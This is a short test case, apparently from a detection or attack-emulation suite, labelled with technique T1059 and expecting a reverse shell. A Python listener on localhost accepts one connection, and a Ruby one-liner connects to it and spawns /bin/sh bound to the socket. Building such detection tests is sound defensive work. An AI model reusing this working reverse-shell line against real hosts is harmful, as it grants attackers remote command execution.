# title: ruby hands a socket to a shell
# technique: T1059
# expects: reverse-shell
# needs: ruby
python3 -c 'import socket,time; l=socket.socket(); l.setsockopt(1,2,1); l.bind(("127.0.0.1",4601)); l.listen(); c=l.accept()[0]; c.close()' & sleep 0.5
ruby -rsocket -e 's=TCPSocket.new("127.0.0.1",4601); spawn("/bin/sh", in: s, out: s, err: s); Process.wait' || true; wait
